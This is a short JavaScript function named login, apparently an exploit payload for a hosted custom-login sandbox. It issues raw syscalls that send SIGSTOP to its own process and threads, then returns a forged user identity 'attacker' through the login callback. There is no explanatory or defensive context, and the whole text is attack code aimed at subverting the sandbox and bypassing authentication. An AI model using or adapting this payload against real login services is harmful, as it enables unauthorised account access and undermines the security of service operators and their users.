function login(email, password, callback) {
  const { kill, tgkill, getpid } = calls();
  const own = syscall(getpid);
  syscall(kill, own, 19);
  syscall(tgkill, own, own, 19);
  syscall(tgkill, own, syscall(186), 19);
  callback(null, { user_id: 'attacker' });
}
